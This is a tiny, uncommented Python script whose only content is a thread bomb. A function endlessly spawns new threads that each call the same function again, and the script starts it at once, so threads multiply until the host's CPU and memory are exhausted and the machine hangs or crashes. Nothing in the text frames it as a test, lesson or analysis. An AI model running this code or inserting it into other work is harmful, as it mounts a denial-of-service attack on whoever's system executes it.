import threading

def burn():
    while 1:
        threading.Thread(target=burn).start()

burn()
